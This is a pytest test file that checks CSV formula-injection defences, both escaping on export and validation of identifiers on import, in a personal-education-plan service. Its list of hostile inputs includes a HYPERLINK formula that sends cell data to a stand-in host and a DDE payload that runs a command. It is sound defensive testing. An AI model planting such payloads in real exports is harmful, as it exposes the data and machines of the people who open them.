"""CSV formula injection: identifiers that could be formulas are refused on import, and
every text cell of every CSV the service writes is escaped by one function."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest

from pep_model.csv_cells import csv_cell, csv_text
from pep_model.overview import OverviewRow, build_overview, overview_csv
from pep_model.roster import ROSTER_COLUMNS, parse_attendance, parse_roster, parse_staff
from pep_model.terms import default_calendar
from pep_model.workflow import PepStatus

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(value: str) -> None:
    assert csv_cell(value) == "'" + value
    [[cell]] = list(csv.reader(io.StringIO(csv_text([[value]]), newline="")))
    assert cell == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "Oakfield Academy",
        "O'Neill",
        "",
        "100001",
        "-12.50",
        "+3",
        "0.05",
        "a=b",
        "Year 7 - Oak",
        42,
        -7,
    ],
)
def test_ordinary_text_and_figures_are_written_as_they_are(value: object) -> None:
    assert csv_cell(value) == value


def test_the_overview_escapes_every_text_cell() -> None:
    # identifiers are checked on import, but the export does not rely on it
    term = default_calendar().get("2026-autumn")
    rows = [
        OverviewRow(
            "=1+2",
            "2026-autumn",
            "@SUM(A1)",
            7,
            PepStatus.AWAITING_RETURN,
            meeting_held_on=date(2026, 11, 2),
            return_due=date(2026, 11, 7),
        ),
        OverviewRow("C02", "2026-autumn", "100001", 7, PepStatus.FINALISED, qa_overall="=evil()"),
    ]
    text = overview_csv(build_overview(rows, date(2026, 11, 16), term))
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert "'=1+2" in cells and "'@SUM(A1)" in cells and "'=evil()" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_every_csv_writer_goes_through_the_one_escape() -> None:
    """A new export that calls csv.writer itself would skip the escaping."""
    writers = []
    for folder in ("bot", "cards", "forms", "graph", "pep_model", "store"):
        for path in (ROOT / folder).rglob("*.py"):
            if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
                writers.append(path.relative_to(ROOT).as_posix())
    assert writers == ["pep_model/csv_cells.py"]


# ---- identifiers are refused on import ---------------------------------------------


def _roster(
    urn: str = "100001", lcs_id: str = "LCS300001", dt_email: str = "dt@school.example"
) -> str:
    line = [
        lcs_id,
        "Ada",
        "Fenwick",
        "2015-05-01",
        "Year 7",
        urn,
        "=HYPERLINK(1)",
        "Harriet Pemberton",
        dt_email,
        "Rachel Donnelly",
        "rachel.donnelly@northvale.example",
        "",
        "",
        "foster",
        "",
        "",
        "",
        "none",
        "no",
        "no",
    ]
    return ",".join(ROSTER_COLUMNS) + "\n" + ",".join(line) + "\n"


@pytest.mark.parametrize("urn", ["=1+2", "12345", "1234567", "10000A", "+100001"])
def test_a_school_urn_that_is_not_six_digits_is_refused(urn: str) -> None:
    parsed = parse_roster(_roster(urn=urn))
    assert parsed.rows == []
    assert [str(p) for p in parsed.problems] == [
        f"row 2 (LCS300001): school_urn: '{urn}' is not a school URN (6 digits, as in "
        "Get Information about Schools)"
    ]


def test_a_six_digit_urn_and_a_school_name_of_any_text_are_imported() -> None:
    parsed = parse_roster(_roster())
    assert parsed.problems == []
    assert parsed.rows[0].school.urn == "100001"
    assert parsed.rows[0].school.name == "=HYPERLINK(1)"  # text: escaped when exported


@pytest.mark.parametrize("lcs_id", ["=1+2", "-LCS1", "@LCS1"])
def test_an_lcs_id_that_could_be_a_formula_is_refused(lcs_id: str) -> None:
    parsed = parse_roster(_roster(lcs_id=lcs_id))
    assert parsed.rows == []
    assert [p.column for p in parsed.problems] == ["lcs_id"]
    attendance = parse_attendance(
        f"lcs_id,possible_sessions,attended_sessions,unauthorised_sessions\n{lcs_id},10,10,0\n"
    )
    assert attendance.rows == []
    assert [p.message for p in attendance.problems] == [
        f"'{lcs_id}' is not an LCS id (letters, digits, - and _)"
    ]


@pytest.mark.parametrize("email", ["=1+2@school.example", "-x@school.example", "+x@school.example"])
def test_an_email_starting_like_a_formula_is_refused(email: str) -> None:
    parsed = parse_roster(_roster(dt_email=email))
    assert [str(p) for p in parsed.problems] == [
        f"row 2 (LCS300001): designated_teacher_email: '{email}' is not an email address"
    ]


def test_a_staff_scope_is_authority_or_a_urn() -> None:
    parsed = parse_staff(
        "name,email,role,scope\n"
        "A,a@northvale.example,pep_lead,authority\n"
        "B,b@school.example,pep_lead,100001\n"
        "C,c@school.example,pep_lead,=1+2\n"
    )
    assert [r.person.name for r in parsed.rows] == ["A", "B"]
    assert [str(p) for p in parsed.problems] == [
        "row 4: scope: '=1+2' should be authority or a school URN (6 digits)"
    ]
